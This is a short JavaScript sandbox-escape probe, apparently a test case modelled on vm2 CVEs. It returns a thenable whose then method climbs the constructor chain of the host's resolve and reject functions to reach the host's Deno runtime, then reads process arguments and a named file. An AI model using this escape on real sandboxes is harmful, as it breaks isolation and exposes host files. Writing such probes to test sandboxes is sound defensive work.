// Tries: a result that is a thenable: its `then` runs when the host takes it, and gets the host's own functions.
// Origin: vm2 CVE-2023-37466 and CVE-2026-44000 (values of host promises).

return {
  then(resolve, reject) {
    const found = [];
    for (const given of [resolve, reject, this]) {
      try {
        const platform = given.constructor.constructor("return Deno")();
        found.push(platform.args, platform.readTextFileSync(input.file));
      } catch (error) {
        found.push(`${error}`);
      }
    }
    resolve(found);
  },
};
